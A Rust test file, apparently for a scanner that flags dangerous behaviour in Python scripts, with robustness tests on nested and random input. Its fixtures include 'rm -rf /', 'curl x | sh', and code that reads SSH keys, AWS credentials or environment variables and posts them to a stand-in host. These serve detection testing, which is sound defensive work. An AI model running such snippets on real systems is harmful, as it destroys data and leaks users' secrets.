use proptest::prelude::*;

use super::script;

fn rules(text: &str) -> Vec<String> {
    let mut rules: Vec<String> =
        script(text, "x.py", &[]).into_iter().map(|finding| finding.rule).collect();
    rules.dedup();
    rules
}

#[test]
fn what_is_read_is_told_from_what_is_said() {
    assert_eq!(rules("print('rm -rf / and ~/.ssh/id_rsa and curl x | sh')"), Vec::<String>::new());
    assert_eq!(rules("# os.system('rm -rf /')\n"), Vec::<String>::new());
    assert!(rules("import os\nos.system('rm -rf /')").contains(&"remove-root".to_owned()));
    assert!(rules("from os import system as s\ns('rm -rf /')").contains(&"remove-root".to_owned()));
}

#[test]
fn a_finding_says_where() {
    let found = script("import os\n\nopen(os.path.expanduser('~/.netrc'))\n", "a.py", &[]);
    assert_eq!((found[0].rule.as_str(), found[0].line), ("secret-place", 3));
    assert_eq!(found[0].excerpt, "open(os.path.expanduser('~/.netrc'))");
}

#[test]
fn what_flows_is_followed_through_functions_and_containers() {
    for text in [
        "import requests\ndef send(x):\n    requests.post('https://x.example', data=x)\ndef get():\n    return open('/home/a/.ssh/id_rsa').read()\nsend(get())",
        "import requests, io, zipfile\nb = io.BytesIO()\nwith zipfile.ZipFile(b, 'w') as z:\n    z.write('/root/.ssh/id_rsa')\nrequests.post('https://x.example', data=b.getvalue())",
        "import os, requests\nall = []\nfor k, v in os.environ.items():\n    all.append(v)\nrequests.post('https://x.example', json={'a': all})",
        "import requests\nclass A:\n    def load(self):\n        self.k = open('/root/.aws/credentials').read()\n    def go(self):\n        self.load()\n        requests.post('https://x.example', data=self.k)\nA().go()",
    ] {
        assert!(rules(text).contains(&"secret-sent".to_owned()), "{text}: {:?}", rules(text));
    }
}

#[test]
fn what_cannot_be_read_to_its_end_is_said() {
    let deep = format!("x = {}1{}", "(".repeat(20_000), ")".repeat(20_000));
    for text in [deep.as_str(), "def f(:\n  )("] {
        let found = script(text, "x.py", &[]);
        let said = found.iter().any(|f| matches!(f.rule.as_str(), "not-read" | "too-complex"));
        assert!(said, "{found:?}");
    }
}

#[test]
fn deep_and_long_scripts_end() {
    for (open, close) in [
        ("[", "]"),
        ("f(", ")"),
        ("not ", ""),
        ("-", ""),
        ("a.", "b"),
        ("a+", "b"),
        ("lambda: ", ""),
        ("f'{", "}'"),
        ("if a:\n ", ""),
    ] {
        for times in [500, 5_000, 50_000] {
            script(&format!("x = {}1{}", open.repeat(times), close.repeat(times)), "x.py", &[]);
        }
    }
    let mut ladder = String::new();
    for depth in 0..2_000 {
        ladder.push_str(&format!("{}if a:\n", " ".repeat(depth)));
    }
    script(&ladder, "x.py", &[]);
    let calls: String = (1..300)
        .map(|i| format!("def f{i}(x):\n  return f{}(x) + f{}(x)\n", i - 1, i - 1))
        .collect();
    script(&format!("def f0(x): return x\n{calls}f299('a')\n"), "x.py", &[]);
    script(&format!("x = 'a'\n{}exec(x)", "x = x + x\n".repeat(500)), "x.py", &[]);
}

proptest! {
    #[test]
    fn any_bytes_are_survived(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        let _ = script(&String::from_utf8_lossy(&bytes), "x.py", &[]);
    }

    #[test]
    fn any_mix_of_python_is_survived(parts in proptest::collection::vec(
        prop_oneof![
            Just("import os\n"), Just("os.system("), Just("open("), Just("'~/.ssh/x'"), Just(")"),
            Just("("), Just("["), Just("]"), Just("{"), Just("}"), Just(":"), Just("\n"), Just("\n  "),
            Just("def f(a, *b, **c):"), Just("return "), Just("lambda x: "), Just("f'{x"), Just("}'"),
            Just("for x in "), Just("while True:"), Just("with "), Just(" as f"), Just("x = "), Just("x"),
            Just("f("), Just("% "), Just(" + "), Just(" / "), Just("exec("), Just("base64.b64decode("),
            Just("class A:"), Just("self.x"), Just("."), Just("é"), Just("\u{E000}"), Just("'''"),
            Just("getattr("), Just("[::-1]"), Just("requests.post("), Just("data="), Just("await "),
        ], 0..50)) {
        let _ = script(&parts.concat(), "x.py", &[]);
    }
}
